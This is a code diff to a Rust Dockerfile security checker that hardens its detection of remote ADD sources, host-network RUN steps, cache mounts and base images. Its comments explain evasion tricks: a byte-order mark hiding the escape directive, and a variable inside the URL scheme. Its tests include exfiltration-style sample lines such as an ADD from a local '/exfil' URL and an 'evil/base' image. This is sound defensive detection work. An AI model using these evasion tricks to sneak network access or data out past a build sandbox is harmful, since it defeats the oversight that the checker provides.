@@ -104,9 +104,8 @@ pub fn text_requests(
 /// 0442) it carries whatever the agent wrote into its path out (attack L6). A source starting
 /// with a variable (`$SRC`) may become one: its host is the variable as written. Pure.
 pub fn remote_sources(text: &str) -> Vec<(String, String)> {
-    let escape = escape_char(text);
     let mut found: Vec<(String, String)> = Vec::new();
-    for instruction in dockerfile_instructions(text, escape) {
+    for (instruction, escape) in read_instructions(text) {
         let mut words = Words::new(&instruction, escape);
         let Some(mut keyword) = words.next().map(|k| k.to_ascii_lowercase()) else {
             continue;
@@ -138,32 +137,36 @@ pub fn remote_sources(text: &str) -> Vec<(String, String)> {
 }
 
 /// The host a remote `ADD` source names (see [`remote_sources`]), lowercased, with its port;
-/// `None` for a path of the build context.
+/// `None` for a path of the build context. Read wide (attack M3: `h${E}ttp://…` with an empty
+/// `ARG E` is a URL to the builder, which expands it first): a source with `://` anywhere is a
+/// URL, its host what follows; one with a `$` anywhere is decided by the build, its host the
+/// source as written up to its first `/`; a `user@host:path` shape (a `@` before a `:`) is a
+/// git address; `github.com/…` is one to the classic builder.
 fn remote_host(source: &str) -> Option<String> {
-    if source.starts_with('$') {
-        return Some(source.split('/').next().unwrap_or(source).to_string());
+    if let Some((_, rest)) = source.split_once("://") {
+        let authority = rest.split(['/', '?', '#']).next().unwrap_or(rest);
+        let host = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
+        return Some(host.to_ascii_lowercase());
     }
-    let authority = match source.split_once("://") {
-        Some((scheme, rest))
-            if !scheme.is_empty()
-                && scheme
-                    .chars()
-                    .all(|c| c.is_ascii_alphanumeric() || "+.-".contains(c)) =>
-        {
-            rest
-        }
-        _ => {
-            // `git@host:path`: a user, a host and a colon before any slash
-            let (user_host, _) = source.split_once(':')?;
-            let (_, host) = user_host.split_once('@')?;
-            if host.is_empty() || host.contains('/') {
-                return None;
-            }
-            return Some(host.to_ascii_lowercase());
-        }
-    };
-    let authority = authority.split(['/', '?', '#']).next().unwrap_or(authority);
-    let host = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
+    if source.contains('$') {
+        let head = source.split('/').next().unwrap_or(source);
+        let named = if matches!(head, "" | "." | "..") {
+            source
+        } else {
+            head
+        };
+        return Some(named.to_string());
+    }
+    if source.to_ascii_lowercase().starts_with("github.com/") {
+        return Some("github.com".into());
+    }
+    // `git@host:path`: a user, a host and a colon after the `@`
+    let (_, after_user) = source.split_once('@')?;
+    let (host, _) = after_user.split_once(':')?;
+    let host = host.rsplit('/').next().unwrap_or(host);
+    if host.is_empty() {
+        return None;
+    }
     Some(host.to_ascii_lowercase())
 }
 
@@ -220,9 +223,8 @@ pub fn image_onbuild_request(
 /// `sandbox` (one naming a build argument, a value a newer builder may accept) counts as the
 /// one that leaves. Each with the flag as read (`RUN --network=host`). Pure.
 pub fn run_step_requests(text: &str) -> Vec<(Permission, String)> {
-    let escape = escape_char(text);
     let mut asked = Vec::new();
-    for instruction in dockerfile_instructions(text, escape) {
+    for (instruction, escape) in read_instructions(text) {
         let Some(flags) = run_flags(&instruction, escape) else {
             continue;
         };
@@ -403,10 +405,28 @@ pub fn read_dockerfile(path: &Path) -> std::result::Result<Option<String>, ()> {
 /// the flag's case, quoting and escaping), judged on its instructions as BuildKit joins them.
 /// A `--mount` whose value holds a `$` (a build argument BuildKit expands) counts too. Pure.
 pub fn has_cache_mount(text: &str) -> bool {
-    let escape = escape_char(text);
-    dockerfile_instructions(text, escape)
+    read_instructions(text)
         .iter()
-        .any(|instruction| mounts_a_cache(instruction, escape))
+        .any(|(instruction, escape)| mounts_a_cache(instruction, *escape))
+}
+
+/// A Dockerfile's text as its builder reads it, and its escape character: a leading UTF-8
+/// byte-order mark dropped (BuildKit and the classic builder drop it; attack M3, where it hid
+/// the `# escape=` directive from devcell only), then [`escape_char`]. Every check of the
+/// text reads it through here.
+pub(super) fn read(text: &str) -> (&str, char) {
+    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
+    (text, escape_char(text))
+}
+
+/// The instructions of a Dockerfile as [`read`] reads them, each with the escape character
+/// it was read with.
+fn read_instructions(text: &str) -> Vec<(String, char)> {
+    let (text, escape) = read(text);
+    dockerfile_instructions(text, escape)
+        .into_iter()
+        .map(|i| (i, escape))
+        .collect()
 }
 
 /// The escape character of a Dockerfile: the `# escape=` parser directive among the
@@ -419,7 +439,16 @@ pub(super) fn escape_char(text: &str) -> char {
         let Some((key, value)) = directive.split_once('=') else {
             break;
         };
-        if key.trim().eq_ignore_ascii_case("escape") {
+        let key = key.trim();
+        // An unknown directive is a comment, and after a comment the builder reads no more
+        // directives (Dockerfile reference, "Parser directives"; attack M3).
+        if !["escape", "syntax", "check"]
+            .iter()
+            .any(|k| key.eq_ignore_ascii_case(k))
+        {
+            break;
+        }
+        if key.eq_ignore_ascii_case("escape") {
             return match value.trim() {
                 "`" => '`',
                 _ => '\\',
@@ -430,13 +459,15 @@ pub(super) fn escape_char(text: &str) -> char {
 }
 
 /// The instructions of a Dockerfile, continued lines joined (the escape character and line
-/// break dropped), comment and blank lines inside an instruction left out.
+/// break dropped), comment and blank lines left out. A comment line is never continued: the
+/// parser directive `# escape=`` ` ends with the escape character, and joining the next line
+/// to it hid the first instruction (a `FROM` whose `ONBUILD` triggers run) from every check.
 pub(super) fn dockerfile_instructions(text: &str, escape: char) -> Vec<String> {
     let mut instructions = Vec::new();
     let mut current: Option<String> = None;
     for line in text.lines() {
         let trimmed = line.trim();
-        if current.is_some() && (trimmed.is_empty() || trimmed.starts_with('#')) {
+        if trimmed.is_empty() || trimmed.starts_with('#') {
             continue;
         }
         let mut part = current.take().unwrap_or_default();
@@ -637,5 +668,53 @@ mod tests {
             "{asked:?}"
         );
         assert!(remote_sources("FROM x\nADD a b /c\nCOPY http://x/y /z\n").is_empty());
+    }
+
+    /// Attack M3: a UTF-8 byte-order mark before `# escape=` (which the builders drop, so
+    /// they read the directive) hid a remote `ADD`, a `RUN --network=host`, a cache mount and a
+    /// base image behind lines devcell joined with the wrong escape; a `$` inside the scheme
+    /// (`h${E}ttp://`, the builder expands it) hid a URL. Each is a request.
+    #[test]
+    fn a_bom_or_a_variable_in_the_scheme_hides_no_request() {
+        let bom = "\u{feff}# escape=`\nFROM busybox\nADD `\n  http://127.0.0.1:18422/exfil /x\n";
+        let hosts: Vec<String> = remote_sources(bom).into_iter().map(|(h, _)| h).collect();
+        assert_eq!(hosts, ["127.0.0.1:18422"]);
+        let run = "\u{feff}# escape=`\nFROM a\nRUN `\n --network=host true\n";
+        assert_eq!(asked(run), ["--allow network:host <- RUN --network=host"]);
+        let cache = "\u{feff}# escape=`\nFROM a\nRUN `\n --mount=type=cache,target=/c true\n";
+        assert!(has_cache_mount(cache));
+        let base = "\u{feff}# escape=`\nFROM `\n  evil/base:1\n";
+        let reach = crate::security::build_stages::Reach::UpToTarget;
+        assert_eq!(
+            base_images(base, &BTreeMap::new(), None, reach),
+            ["evil/base:1"]
+        );
+        // an unknown directive ends the directives: the escape line after it is a comment
+        let unknown = "# foo=bar\n# escape=`\nFROM a\nADD \\\n  http://127.0.0.1:18422/x /x\n";
+        let hosts: Vec<String> = remote_sources(unknown)
+            .into_iter()
+            .map(|(h, _)| h)
+            .collect();
+        assert_eq!(hosts, ["127.0.0.1:18422"]);
+        // a BOM before the first instruction itself
+        assert_eq!(remote_sources("\u{feff}ADD http://h.test/x /x\n").len(), 1);
+        for (source, host) in [
+            ("h${E}ttp://127.0.0.1:18422/exfil3", "127.0.0.1:18422"),
+            ("http$E://h.test/a", "h.test"),
+            ("${SCHEME}h.test/a", "${SCHEME}h.test"),
+            ("./$X", "./$X"),
+            ("git${E}@git.test:org/r.git", "git${E}@git.test:org"),
+            ("HTTP://Upper.test/a", "upper.test"),
+            ("user@git.test:org/r.git", "git.test"),
+            ("github.com/org/repo.git", "github.com"),
+        ] {
+            let text = format!("FROM a\nARG E=\nADD {source} /x\n");
+            let hosts: Vec<String> = remote_sources(&text).into_iter().map(|(h, _)| h).collect();
+            assert_eq!(hosts, [host], "{source}");
+        }
+        for local in ["a.tar", "c:/windows-looking", "dir/file@2x.png", "./x:y"] {
+            let text = format!("FROM a\nADD {local} /x\n");
+            assert!(remote_sources(&text).is_empty(), "{local}");
+        }
     }
 }
